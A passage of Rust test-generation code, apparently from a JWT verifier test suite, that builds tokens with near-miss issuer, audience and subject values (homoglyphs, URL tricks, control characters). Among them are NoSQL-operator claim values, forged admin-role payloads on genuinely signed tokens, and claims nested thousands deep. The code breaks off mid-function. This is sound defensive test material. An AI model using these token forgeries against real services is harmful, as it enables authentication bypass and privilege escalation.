//! Claims other than the times: issuer, audience, subject, JWT ID, required claims, and claims as data (RFC 7519 §4.1,
//! RFC 8725 §3.8 to §3.12).
//!
//! Nearly every token here is signed by the trusted key and says something that the relying party did not ask for. How
//! a claim is compared does not hang on how the token was signed, so a table is shown whole on HS256 and with its first
//! row on the other key types. Values are written out, not put together from the scene's constants: the strawmen see to
//! it that they stay near the expected ones.

use std::sync::atomic::{AtomicBool, Ordering};

use token_assay_model::{Algorithm, Feature, Profile, Reason, Severity};

use super::scene::{AUDIENCE, ISSUER, SECOND_AUDIENCE, SECOND_ISSUER, Scene, Setting, on};
use super::{Area, Cases, Class, Family, Make, Says};
use crate::forge::json::{quote, quote_escaped};
use crate::forge::{Jws, Object};
use crate::reference::json::Json;
use crate::reference::{Reading, Rule, rules};
use crate::strawman::{PANICS, SKIPS_SIGNATURE, Strawman, skip};

/// A variant and a value: raw JSON, or the text of a string, as the function that takes it says.
type Row = (&'static str, &'static str);

/// A variant, the value that the relying party expects, and the one that the token has.
type NearRow = (&'static str, &'static str, &'static str);

/// What a variant's name ends in, and how its strings are written.
type Spelling = (&'static str, fn(&str) -> String);

/// The claims that a policy compares with values of its own.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Compared {
    Issuer,
    Audience,
    Subject,
}

impl Compared {
    fn claim(self) -> &'static str {
        match self {
            Self::Issuer => "iss",
            Self::Audience => "aud",
            Self::Subject => "sub",
        }
    }

    /// The scene of a relying party that expects these values.
    fn expecting<'f>(self, scene: &Scene<'f>, own: &[&str]) -> Scene<'f> {
        let values: Vec<String> = own.iter().map(|value| (*value).to_owned()).collect();
        scene.with(|policy| match self {
            Self::Issuer => policy.issuer = values,
            Self::Audience => policy.audience = values,
            Self::Subject => policy.subject = values.into_iter().next(),
        })
    }
}

/// The scene of a relying party that trusts two issuers.
fn two_issuers<'f>(scene: &Scene<'f>) -> Scene<'f> {
    Compared::Issuer.expecting(scene, &[ISSUER, SECOND_ISSUER])
}

/// The scene of a relying party that goes by two names.
fn two_audiences<'f>(scene: &Scene<'f>) -> Scene<'f> {
    Compared::Audience.expecting(scene, &[AUDIENCE, SECOND_AUDIENCE])
}

/// Whether a table is shown whole on this scene: one of the catalogue's, or the only one there is.
fn is_whole(scene: &Scene<'_>) -> bool {
    scene.algorithm() == Algorithm::Hs256 || scene.names.is_some()
}

/// The rows that are shown on this scene.
fn shown<'t, T>(scene: &Scene<'_>, rows: &'t [T]) -> &'t [T] {
    if is_whole(scene) { rows } else { &rows[..1] }
}

/// The valid token with this raw value for one claim.
fn with_claim(scene: &Scene<'_>, claim: &str, raw: impl Into<String>) -> Jws {
    scene.sign_claims(&scene.claims().set(claim, raw))
}

/// A case for each raw value of the claim.
fn values(scene: &Scene<'_>, cases: &mut Cases<'_>, claim: &str, rows: &[Row]) {
    for (variant, raw) in shown(scene, rows) {
        cases.add(scene, variant, with_claim(scene, claim, *raw));
    }
}

/// A case for each text of the claim, a string.
fn strings(scene: &Scene<'_>, cases: &mut Cases<'_>, claim: &str, rows: &[Row]) {
    for (variant, text) in shown(scene, rows) {
        cases.add(scene, variant, with_claim(scene, claim, quote(text)));
    }
}

/// A case for each raw value before a relying party that expects one of several values.
fn among_several(several: &Scene<'_>, cases: &mut Cases<'_>, claim: &str, rows: &[Row]) {
    if !is_whole(several) {
        return;
    }
    for (variant, raw) in rows {
        cases.add(several, &format!("several-{variant}"), with_claim(several, claim, *raw));
    }
}

/// A case for each pair of an expected value and one that is near it, in each of these spellings.
fn near(compared: Compared, scene: &Scene<'_>, cases: &mut Cases<'_>, spellings: &[Spelling], rows: &[NearRow]) {
    for (variant, own, given) in shown(scene, rows) {
        let expecting = compared.expecting(scene, &[own]);
        for (ending, spell) in spellings {
            let token = with_claim(&expecting, compared.claim(), spell(given));
            cases.add(&expecting, &format!("{variant}{ending}"), token);
        }
    }
}

/// The claim is absent, or stands under a name that is not its own, or in the header, which is no part of the claims.
fn absent(scene: &Scene<'_>, cases: &mut Cases<'_>, prefix: &str, claim: &str, aliases: &[Row], reason: Reason) {
    // A relying party of the user's own may ask for no such claim, and its valid tokens then have none.
    let Some(value) = scene.claims().value(claim).map(str::to_owned) else { return };
    let without = scene.claims().without(claim);
    cases.add(scene, &format!("{prefix}absent"), scene.sign_claims(&without)).reason(reason);
    if !is_whole(scene) {
        return;
    }
    for (variant, name) in aliases {
        let renamed = without.clone().set(name, value.as_str());
        cases.add(scene, &format!("{prefix}{variant}"), scene.sign_claims(&renamed)).reason(reason);
    }
    let header = scene.header().set(claim, value.as_str());
    cases.add(scene, &format!("{prefix}in-header"), scene.sign(header.text(), without.text())).reason(reason);
}

/// The scene of a relying party that requires these claims. An expected issuer would refuse a token without `iss` too,
/// so there is none where `iss` is required.
fn requiring<'f>(scene: &Scene<'f>, names: &[&str]) -> Scene<'f> {
    scene.with(|policy| {
        policy.required_claims = names.iter().map(|name| (*name).to_owned()).collect();
        if names.contains(&"iss") {
            policy.issuer.clear();
        }
    })
}

fn issuer_wrong(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    strings(
        scene,
        cases,
        "iss",
        &[
            ("other", "https://evil.example"),
            ("word", "evil"),
            ("own-name", "https://api.example"),
            ("subject", "user-1"),
            ("other-scheme", "http://issuer.example"),
        ],
    );
    among_several(&two_issuers(scene), cases, "iss", &[("other", r#""https://evil.example""#)]);
    if is_whole(scene) {
        let beside = scene.claims().set_string("iss", "https://evil.example").set_string("ISS", ISSUER);
        cases.add(scene, "right-one-in-capitals", scene.sign_claims(&beside));
        let header = scene.header().set_string("iss", ISSUER);
        let claims = scene.claims().set_string("iss", "https://evil.example");
        cases.add(scene, "right-one-in-header", scene.sign(header.text(), claims.text()));
    }
}

fn issuer_missing(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    let aliases = [("capitals", "ISS"), ("title-case", "Iss"), ("long-name", "issuer"), ("space", "iss ")];
    absent(scene, cases, "", "iss", &aliases, Reason::Issuer);
    if is_whole(scene) {
        let several = two_issuers(scene);
        absent(&several, cases, "several-", "iss", &[], Reason::Issuer);
    }
}

fn issuer_scalar(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    values(scene, cases, "iss", SCALARS);
    among_several(&two_issuers(scene), cases, "iss", &[("null", "null"), ("zero", "0"), ("true", "true")]);
}

fn issuer_array(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    values(
        scene,
        cases,
        "iss",
        &[
            ("first-of-two", r#"["https://issuer.example","https://evil.example"]"#),
            ("last-of-two", r#"["https://evil.example","https://issuer.example"]"#),
            ("alone", r#"["https://issuer.example"]"#),
            ("twice", r#"["https://issuer.example","https://issuer.example"]"#),
            ("nested", r#"[["https://issuer.example"]]"#),
            ("empty", "[]"),
        ],
    );
    among_several(
        &two_issuers(scene),
        cases,
        "iss",
        &[
            ("both", r#"["https://issuer.example","https://second.example"]"#),
            ("last-of-two", r#"["https://evil.example","https://second.example"]"#),
        ],
    );
}

fn issuer_object(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    values(
        scene,
        cases,
        "iss",
        &[
            ("index", r#"{"0":"https://issuer.example"}"#),
            ("array-like", r#"{"0":"https://issuer.example","length":1}"#),
            ("to-string", r#"{"toString":"https://issuer.example"}"#),
            ("value-of", r#"{"valueOf":"https://issuer.example"}"#),
            ("name", r#"{"https://issuer.example":true}"#),
            ("iss", r#"{"iss":"https://issuer.example"}"#),
            ("not-equal-query", r#"{"$ne":null}"#),
            ("pattern-query", r#"{"$regex":".*"}"#),
            ("empty", "{}"),
        ],
    );
}

fn issuer_substring(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    strings(
        scene,
        cases,
        "iss",
        &[
            ("without-last", "https://issuer.exampl"),
            ("without-first", "ttps://issuer.example"),
            ("host", "issuer.example"),
            ("scheme", "https://"),
            ("letter", "h"),
            ("empty", ""),
        ],
    );
    among_several(
        &two_issuers(scene),
        cases,
        "iss",
        &[("without-last", r#""https://second.exampl""#), ("shared-start", r#""https://""#)],
    );
}

fn issuer_superstring(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    strings(
        scene,
        cases,
        "iss",
        &[
            ("longer-host", "https://issuer.example.evil.com"),
            ("longer-path", "https://issuer.example/x"),
            ("user-part", "https://issuer.example@evil.example"),
            ("in-path", "https://evil.example/https://issuer.example"),
            ("in-query", "https://evil.example?https://issuer.example"),
            ("in-fragment", "https://evil.example#https://issuer.example"),
            ("letters-before", "evilhttps://issuer.example"),
            ("space-after", "https://issuer.example "),
            ("space-before", " https://issuer.example"),
            ("dot-as-pattern", "https://issuerXexample"),
            ("pattern", "^https://issuer.example$"),
        ],
    );
    among_several(
        &two_issuers(scene),
        cases,
        "iss",
        &[
            ("joined-by-space", r#""https://issuer.example https://second.example""#),
            ("joined-by-comma", r#""https://issuer.example,https://second.example""#),
            ("joined-by-bar", r#""https://issuer.example|https://second.example""#),
            ("longer-host", r#""https://second.example.evil.com""#),
        ],
    );
}

fn issuer_case(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    near(
        Compared::Issuer,
        scene,
        cases,
        AS_IS,
        &[
            ("host", ISSUER, "https://ISSUER.example"),
            ("letter", ISSUER, "https://Issuer.example"),
            ("scheme", ISSUER, "HTTPS://issuer.example"),
            ("everything", ISSUER, "HTTPS://ISSUER.EXAMPLE"),
            ("path", "https://issuer.example/Tenant", "https://issuer.example/tenant"),
            ("path-up", "https://issuer.example/tenant", "https://issuer.example/TENANT"),
            ("word", "issuer", "Issuer"),
            ("percent-digits", "https://issuer.example/%2f", "https://issuer.example/%2F"),
        ],
    );
}

fn issuer_url(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    near(
        Compared::Issuer,
        scene,
        cases,
        AS_IS,
        &[
            ("slash-added", ISSUER, "https://issuer.example/"),
            ("slash-missing", "https://issuer.example/", ISSUER),
            ("slash-after-path", "https://issuer.example/a", "https://issuer.example/a/"),
            ("two-slashes", "https://issuer.example/", "https://issuer.example//"),
            ("default-port", ISSUER, "https://issuer.example:443"),
            ("port-missing", "https://issuer.example:443", ISSUER),
            ("encoded-slash", "https://issuer.example/", "https://issuer.example%2F"),
            ("encoded-letter", ISSUER, "https://%69ssuer.example"),
            ("dot-segment", "https://issuer.example/a", "https://issuer.example/./a"),
            ("dot-dot-segment", "https://issuer.example/a", "https://issuer.example/b/../a"),
            ("root-dot", ISSUER, "https://issuer.example."),
            ("empty-query", ISSUER, "https://issuer.example?"),
            ("empty-fragment", ISSUER, "https://issuer.example#"),
            ("empty-user", ISSUER, "https://@issuer.example"),
            ("backslash", "https://issuer.example/a", "https://issuer.example\\a"),
        ],
    );
}

fn issuer_unicode(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    // Expected names outside ASCII have no colon: with one they would have to be URIs (RFC 7519 §2), which are ASCII.
    near(
        Compared::Issuer,
        scene,
        cases,
        RAW_AND_ESCAPED,
        &[
            ("decomposed", "caf\u{e9}.example", "cafe\u{301}.example"),
            ("composed", "cafe\u{301}.example", "caf\u{e9}.example"),
            ("percent-encoded", "caf\u{e9}.example", "caf%C3%A9.example"),
            ("misread-as-latin-1", "caf\u{e9}.example", "caf\u{c3}\u{a9}.example"),
            ("a-label", "b\u{fc}cher.example", "xn--bcher-kva.example"),
            ("u-label", "xn--bcher-kva.example", "b\u{fc}cher.example"),
            ("ligature", "office.example", "o\u{fb03}ce.example"),
            ("fullwidth-dot", ISSUER, "https://issuer\u{ff0e}example"),
            ("ideographic-dot", ISSUER, "https://issuer\u{3002}example"),
            ("fullwidth-letter", ISSUER, "https://\u{ff49}ssuer.example"),
            ("zero-width-space", ISSUER, "https://issuer\u{200b}.example"),
            ("zero-width-joiner", ISSUER, "https://issuer\u{200d}.example"),
            ("soft-hyphen", ISSUER, "https://iss\u{ad}uer.example"),
            ("byte-order-mark", ISSUER, "\u{feff}https://issuer.example"),
            ("direction-mark", ISSUER, "https://issuer.example\u{200e}"),
            ("cyrillic-letter", ISSUER, "https://issuer.\u{435}xample"),
            ("long-s", ISSUER, "https://i\u{17f}\u{17f}uer.example"),
            ("dotless-i", ISSUER, "https://\u{131}ssuer.example"),
        ],
    );
}

fn issuer_control_characters(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    strings(
        scene,
        cases,
        "iss",
        &[
            ("nul-and-more", "https://issuer.example\0evil"),
            ("nul", "https://issuer.example\0"),
            ("newline-and-more", "https://issuer.example\nevil"),
            ("newline", "https://issuer.example\n"),
            ("last-line", "https://evil.example\nhttps://issuer.example"),
            ("middle-line", "evil\nhttps://issuer.example\nevil"),
            ("newline-before", "\nhttps://issuer.example"),
            ("carriage-return", "https://issuer.example\r\nevil"),
            ("line-separator", "https://issuer.example\u{2028}evil"),
            ("tab", "https://issuer.example\t"),
        ],
    );
}

fn issuer_prototype(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    let several = two_issuers(scene);
    for (variant, name) in shown(scene, INHERITED) {
        cases.add(&several, &format!("several-{variant}"), with_claim(&several, "iss", quote(name)));
        if is_whole(scene) {
            cases.add(scene, variant, with_claim(scene, "iss", quote(name)));
        }
    }
}

/// The same request three times running, with one expected issuer and with two.
fn issuer_again(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    let several = two_issuers(scene);
    for time in ["first", "second", "third"] {
        cases.add(scene, time, scene.token());
    }
    for time in ["first", "second", "third"] {
        cases.add(&several, &format!("several-{time}"), with_claim(&several, "iss", quote(SECOND_ISSUER)));
    }
}

fn issuer_unasked(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    strings(
        scene,
        cases,
        "iss",
        &[("word", "issuer"), ("other", "https://other.example"), ("name", "urn:example:issuer")],
    );
    if is_whole(scene) {
        cases.add(scene, "absent", scene.sign_claims(&scene.claims().without("iss")));
    }
}

fn audience_wrong(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    values(
        scene,
        cases,
        "aud",
        &[
            ("other", r#""https://other.example""#),
            ("word", r#""other""#),
            ("issuer", r#""https://issuer.example""#),
            ("array-of-one", r#"["https://other.example"]"#),
            ("array-of-three", r#"["https://other.example","https://third.example","other"]"#),
        ],
    );
    among_several(
        &two_audiences(scene),
        cases,
        "aud",
        &[
            ("other", r#""https://other.example""#),
            ("array-of-two", r#"["https://other.example","https://third.example"]"#),
        ],
    );
    if is_whole(scene) {
        let beside = scene.claims().set_string("aud", "https://other.example").set_string("AUD", AUDIENCE);
        cases.add(scene, "right-one-in-capitals", scene.sign_claims(&beside));
    }
}

fn audience_missing(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    let aliases = [
        ("capitals", "AUD"),
        ("title-case", "Aud"),
        ("long-name", "audience"),
        ("party", "azp"),
        ("client", "client_id"),
    ];
    absent(scene, cases, "", "aud", &aliases, Reason::Audience);
    if is_whole(scene) {
        let several = two_audiences(scene);
        absent(&several, cases, "several-", "aud", &[], Reason::Audience);
    }
}

fn audience_empty_array(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    values(scene, cases, "aud", &[("plain", "[]"), ("with-a-space", "[ ]")]);
    among_several(&two_audiences(scene), cases, "aud", &[("plain", "[]")]);
}

fn audience_empty_string(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    values(
        scene,
        cases,
        "aud",
        &[("string", r#""""#), ("array-of-one", r#"[""]"#), ("array-of-two", r#"["",""]"#), ("space", r#"" ""#)],
    );
    among_several(&two_audiences(scene), cases, "aud", &[("string", r#""""#)]);
    if is_whole(scene) {
        audience_empty_expected(scene, cases);
    }
}

/// The relying party's own name is the empty string, which is still not the token's.
fn audience_empty_expected(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    let nameless = Compared::Audience.expecting(scene, &[""]);
    let mut add = |variant: &str, claims: &Object| {
        cases.add(&nameless, variant, nameless.sign_claims(claims)).profile(Profile::Misconfigured);
    };
    add("expected-and-other", &nameless.claims().set_string("aud", "https://other.example"));
    add("expected-and-others", &nameless.claims().set("aud", r#"["https://other.example"]"#));
    add("expected-and-empty-array", &nameless.claims().set("aud", "[]"));
    add("expected-and-absent", &nameless.claims().without("aud"));
}

fn audience_scalar(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    values(scene, cases, "aud", SCALARS);
    among_several(&two_audiences(scene), cases, "aud", &[("null", "null"), ("zero", "0"), ("true", "true")]);
}

fn audience_mixed(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    values(
        scene,
        cases,
        "aud",
        &[
            ("number-first", r#"[1,"https://api.example"]"#),
            ("number-last", r#"["https://api.example",1]"#),
            ("null-first", r#"[null,"https://api.example"]"#),
            ("null-last", r#"["https://api.example",null]"#),
            ("true", r#"[true,"https://api.example"]"#),
            ("object", r#"["https://api.example",{}]"#),
            ("array", r#"["https://api.example",[]]"#),
        ],
    );
    if !is_whole(scene) {
        return;
    }
    // Here no member of the array is the expected name, so refusing is required whatever the types may be.
    for (variant, raw) in [
        ("nested", r#"[["https://api.example"]]"#),
        ("nested-beside-other", r#"["https://other.example",["https://api.example"]]"#),
        ("in-object", r#"[{"x":"https://api.example"}]"#),
        ("null-alone", "[null]"),
    ] {
        cases.add(scene, variant, with_claim(scene, "aud", raw)).says(Says::MustReject(Reason::MissingClaim));
    }
}

fn audience_object(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    values(
        scene,
        cases,
        "aud",
        &[
            ("array-like", r#"{"0":"https://api.example","length":1}"#),
            ("index", r#"{"0":"https://api.example"}"#),
            ("name", r#"{"https://api.example":true}"#),
            ("aud", r#"{"aud":"https://api.example"}"#),
            ("in-query", r#"{"$in":["https://api.example"]}"#),
            ("not-equal-query", r#"{"$ne":null}"#),
            ("empty", "{}"),
        ],
    );
}

fn audience_part(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    values(
        scene,
        cases,
        "aud",
        &[
            ("without-last", r#""https://api.exampl""#),
            ("without-first", r#""ttps://api.example""#),
            ("host", r#""api.example""#),
            ("letter", r#""h""#),
            ("longer-host", r#""https://api.example.evil.com""#),
            ("longer-path", r#""https://api.example/x""#),
            ("in-path", r#""https://evil.example/https://api.example""#),
            ("letters-before", r#""evilhttps://api.example""#),
            ("space-after", r#""https://api.example ""#),
            ("newline-after", r#""https://api.example\n""#),
            ("nul-after", r#""https://api.example\u0000x""#),
            ("joined-by-comma", r#""x,https://api.example""#),
            ("joined-by-space", r#""x https://api.example""#),
            ("joined-by-semicolon", r#""https://api.example;x""#),
            ("dot-as-pattern", r#""https://apiXexample""#),
            ("array-without-last", r#"["https://api.exampl"]"#),
            ("array-longer-host", r#"["https://api.example.evil.com"]"#),
            ("array-in-pieces", r#"["https://","api.example"]"#),
            ("array-as-text", r#""[\"https://api.example\"]""#),
        ],
    );
    among_several(
        &two_audiences(scene),
        cases,
        "aud",
        &[
            ("joined-by-space", r#""https://api.example https://second-api.example""#),
            ("joined-by-comma", r#""https://api.example,https://second-api.example""#),
        ],
    );
}

fn audience_near(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    near(
        Compared::Audience,
        scene,
        cases,
        AS_IS,
        &[
            ("host-case", AUDIENCE, "https://API.example"),
            ("scheme-case", AUDIENCE, "HTTPS://api.example"),
            ("path-case", "https://api.example/V1", "https://api.example/v1"),
            ("word-case", "api", "API"),
            ("slash-added", AUDIENCE, "https://api.example/"),
            ("slash-missing", "https://api.example/", AUDIENCE),
            ("default-port", AUDIENCE, "https://api.example:443"),
            ("dot-segment", "https://api.example/a", "https://api.example/./a"),
        ],
    );
    if !is_whole(scene) {
        return;
    }
    values(scene, cases, "aud", &[("array-slash-added", r#"["https://api.example/"]"#)]);
    near(
        Compared::Audience,
        scene,
        cases,
        RAW_AND_ESCAPED,
        &[
            ("decomposed", "caf\u{e9}", "cafe\u{301}"),
            ("composed", "cafe\u{301}", "caf\u{e9}"),
            ("a-label", "b\u{fc}cher.example", "xn--bcher-kva.example"),
            ("fullwidth-dot", AUDIENCE, "https://api\u{ff0e}example"),
            ("zero-width-space", AUDIENCE, "https://api\u{200b}.example"),
            ("cyrillic-letter", AUDIENCE, "https://api.\u{435}xample"),
        ],
    );
}

fn audience_wildcard(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    values(
        scene,
        cases,
        "aud",
        &[
            ("star", r#""*""#),
            ("star-host", r#""https://*.example""#),
            ("star-end", r#""https://api.*""#),
            ("percent", r#""%""#),
            ("percent-host", r#""https://%.example""#),
            ("underscore", r#""https://___.example""#),
            ("question-marks", r#""https://???.example""#),
            ("pattern", r#"".*""#),
            ("anchored-pattern", r#""^https://.*$""#),
            ("any", r#""any""#),
            ("array-of-star", r#"["*"]"#),
        ],
    );
}

fn audience_unasked(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    values(
        scene,
        cases,
        "aud",
        &[
            ("string", r#""https://other.example""#),
            ("array-of-one", r#"["https://other.example"]"#),
            ("array-of-two", r#"["https://other.example","https://third.example"]"#),
            ("empty-array", "[]"),
        ],
    );
}

fn subject_missing(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    let aliases = [("capitals", "SUB"), ("long-name", "subject"), ("user", "user_id")];
    absent(&requiring(scene, &["sub"]), cases, "", "sub", &aliases, Reason::MissingClaim);
    if is_whole(scene) {
        let expecting = Compared::Subject.expecting(scene, &["user-1"]);
        absent(&expecting, cases, "expected-", "sub", &aliases[..1], Reason::Subject);
    }
}

fn subject_type(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    let structures = if is_whole(scene) { STRUCTURES } else { &[] };
    for (variant, raw) in shown(scene, SCALARS).iter().chain(structures) {
        // Who leaves exp to the application leaves it all claims that nobody asked for.
        cases.add(scene, variant, with_claim(scene, "sub", *raw)).needs(Feature::Exp);
    }
}

fn subject_empty(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    let requiring = requiring(scene, &["sub"]);
    cases.add(&requiring, "", with_claim(&requiring, "sub", r#""""#));
}

fn subject_near(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    near(
        Compared::Subject,
        scene,
        cases,
        AS_IS,
        &[
            ("capital", "user-1", "User-1"),
            ("capitals", "user-1", "USER-1"),
            ("space-after", "user-1", "user-1 "),
            ("space-before", "user-1", " user-1"),
            ("newline-after", "user-1", "user-1\n"),
            ("nul-after", "user-1", "user-1\0"),
            ("nul-and-more", "user-1", "user-1\0x"),
            ("leading-zero", "1", "01"),
            ("exponent", "1", "1e0"),
        ],
    );
    if !is_whole(scene) {
        return;
    }
    near(
        Compared::Subject,
        scene,
        cases,
        RAW_AND_ESCAPED,
        &[
            ("decomposed", "jos\u{e9}", "jose\u{301}"),
            ("composed", "jose\u{301}", "jos\u{e9}"),
            ("without-accent", "jos\u{e9}", "jose"),
            ("no-break-space", "user-1", "user-1\u{a0}"),
            ("zero-width-space", "user-1", "user\u{200b}-1"),
            ("fullwidth-letter", "user-1", "\u{ff55}ser-1"),
            ("cyrillic-letter", "user-1", "us\u{435}r-1"),
            ("long-s", "user-1", "u\u{17f}er-1"),
            ("dotless-i", "admin", "adm\u{131}n"),
        ],
    );
}

fn id_missing_or_typed(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    let requiring = requiring(scene, &["jti"]);
    absent(&requiring, cases, "", "jti", &[("capitals", "JTI")], Reason::MissingClaim);
    if !is_whole(scene) {
        return;
    }
    cases.add(&requiring, "null", with_claim(&requiring, "jti", "null"));
    // It is there, though not as the string that RFC 7519 §4.1.7 says it is; no clause requires more of a verifier.
    for (variant, raw) in SCALARS.iter().chain(STRUCTURES).filter(|(variant, _)| *variant != "null") {
        let token = with_claim(&requiring, "jti", *raw);
        cases.add(&requiring, variant, token).says(Says::ShouldReject(Reason::MissingClaim));
    }
}

fn required_missing(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    for (variant, name) in shown(scene, REQUIRED) {
        let requiring = requiring(scene, &[name]);
        cases.add(&requiring, variant, requiring.sign_claims(&requiring.claims().without(name)));
    }
    if !is_whole(scene) {
        return;
    }
    let names = ["exp", "iat", "sub", "jti"];
    let all = requiring(scene, &names);
    for name in names {
        cases.add(&all, &format!("one-of-four-{name}"), all.sign_claims(&all.claims().without(name)));
    }
    let none = names.iter().fold(all.claims(), |claims, name| claims.without(name));
    cases.add(&all, "all-four", all.sign_claims(&none));
}

fn required_null(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    for (variant, name) in shown(scene, REQUIRED) {
        let requiring = requiring(scene, &[name]);
        cases.add(&requiring, variant, with_claim(&requiring, name, "null"));
    }
}

fn required_inherited(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    for (variant, name) in shown(scene, INHERITED) {
        let requiring = requiring(scene, &[name]);
        cases.add(&requiring, variant, requiring.sign_claims(&requiring.claims().without(name)));
    }
}

fn privileges(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    let rows = [
        ("role", "role", r#""admin""#),
        ("roles", "roles", r#"["admin"]"#),
        ("groups", "groups", r#"["administrators"]"#),
        ("scope", "scope", r#""admin read write""#),
        ("flag", "is_admin", "true"),
        ("realm-access", "realm_access", r#"{"roles":["admin"]}"#),
        ("subject", "sub", r#""admin""#),
    ];
    let genuine = scene.token();
    for (variant, name, raw) in shown(scene, &rows) {
        cases.add(scene, variant, genuine.clone().with_payload(scene.claims().set(name, *raw).text()));
    }
    if is_whole(scene) {
        let in_front = scene.claims().prepend("role", r#""admin""#);
        cases.add(scene, "role-in-front", genuine.with_payload(in_front.text()));
    }
}

fn injection(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    strings(scene, cases, "name", INJECTIONS);
    if !is_whole(scene) {
        return;
    }
    for claim in ["sub", "jti"] {
        // A subject with a colon has to be a URI (RFC 7519 §2), and these are none.
        for (variant, text) in INJECTIONS.iter().filter(|(_, text)| !text.contains(':')).take(4) {
            cases.add(scene, &format!("{claim}-{variant}"), with_claim(scene, claim, quote(text)));
        }
    }
    let (_, text) = INJECTIONS[0];
    cases.add(scene, "nested", with_claim(scene, "profile", format!(r#"{{"names":[{}]}}"#, quote(text))));
    cases.add(scene, "member-name", scene.sign_claims(&scene.claims().set(text, "1")));
}

fn delegation(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    for depth in [10, 100, 1_000, 10_000] {
        for claim in ["act", "may_act"] {
            let variant = format!("{}-{depth}-deep", claim.replace('_', "-"));
            let chain = cases.add(scene, &variant, with_claim(scene, claim, nested(claim, depth)));
            match depth {
                // A claim that the verifier does not know is ignored (RFC 7519 §4).
                10 => chain.says(Says::MustAccept),
                // Parsers may limit the depth (RFC 8259 §9); few limit it to so little.
                100 => chain.says(Says::ShouldAccept),
                _ => chain,
            };
        }
    }
    for (variant, raw) in
        [("string", r#""user-2""#), ("number", "1"), ("null", "null"), ("array", "[]"), ("true", "true")]
    {
        let open = "RFC 8693 §4.1 wants an object, and binds only those who know the claim";
        cases.add(scene, &format!("act-{variant}"), with_claim(scene, "act", raw)).says(Says::Either(open));
    }
}

/// An actor for an actor for an actor.
fn nested(name: &str, depth: usize) -> String {
    format!("{}{{}}{}", format!("{{\"{name}\":").repeat(depth), "}".repeat(depth))
}

fn events(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    let rows = [
        ("event-for-access-token", "at+jwt", "secevent+jwt", SECURITY_EVENT),
        ("event-for-jwt", "JWT", "secevent+jwt", SECURITY_EVENT),
        ("long-event-for-access-token", "at+jwt", "application/secevent+jwt", SECURITY_EVENT),
        ("logout-for-access-token", "at+jwt", "logout+jwt", LOGOUT),
        ("logout-for-jwt", "JWT", "logout+jwt", LOGOUT),
    ];
    for (variant, wanted, typ, events) in shown(scene, &rows) {
        let typed = scene.with(|policy| policy.typ = Some((*wanted).to_owned()));
        let header = typed.header().set_string("typ", typ);
        let claims = typed.claims().set("events", *events);
        cases.add(&typed, variant, typed.sign(header.text(), claims.text())).reason(Reason::Type);
    }
    if is_whole(scene) {
        untyped_events(scene, cases);
    }
}

/// A security event token says neither when it expires nor, at its top, whom it is about.
fn untyped_events(scene: &Scene<'_>, cases: &mut Cases<'_>) {
    for (variant, name) in [("event-without-exp", "exp"), ("event-without-sub", "sub")] {
        let requiring = requiring(scene, &[name]);
        let claims = requiring.claims().without(name).set("events", SECURITY_EVENT);
        cases.add(&requiring, variant, requiring.sign_claims(&claims));
    }
}

/// On HS256 only.
fn on_one_with_claims(at: Setting) -> bool {
    on::claims(at) && at.algorithm == Algorithm::Hs256
}

/// The claim compared by a rule of the verifier's own.
fn issuer_by(reading: &mut Reading<'_>, same: impl Fn(&str, &str) -> bool) -> Result<(), Reason> {
    let owns = &reading.policy.issuer;
    let iss = reading.payload.member("iss").and_then(Json::as_str);
    let known = iss.is_some_and(|iss| owns.iter().any(|own| same(own, iss)));
    rules::check(owns.is_empty() || known, Reason::Issuer)
}

/// The same for an audience, a string or the strings of an array.
fn audience_by(reading: &mut Reading<'_>, same: impl Fn(&str, &str) -> bool) -> Result<(), Reason> {
    let owns = &reading.policy.audience;
    let named = match reading.payload.member("aud") {
        Some(Json::Array(values)) => values.iter().collect(),
        other => Vec::from_iter(other),
    };
    let mine = |given: &str| owns.iter().any(|own| same(own, given));
    rules::check(owns.is_empty() || named.into_iter().filter_map(Json::as_str).any(mine), Reason::Audience)
}

/// Whether the text stands anywhere in the value, as a string or as a name.
fn holds(value: &Json, text: &str) -> bool {
    match value {
        Json::String(known) => known == text,
        Json::Array(values) => values.iter().any(|value| holds(value, text)),
        Json::Object(members) => members.iter().any(|(name, value)| name == text || holds(value, text)),
        _ => false,
    }
}

/// What is left where the invisible is dropped and the similar made equal.
fn folded(text: &str) -> String {
    let fold = |letter: char| match letter {
        '\u{ad}' | '\u{200b}' | '\u{200d}' | '\u{200e}' | '\u{feff}' => None,
        '\u{3002}' => Some('.'),
        '\u{ff01}'..='\u{ff5e}' => char::from_u32(letter as u32 - 0xfee0),
        other => Some(other),
    };
    let plain: String = text.chars().filter_map(fold).collect();
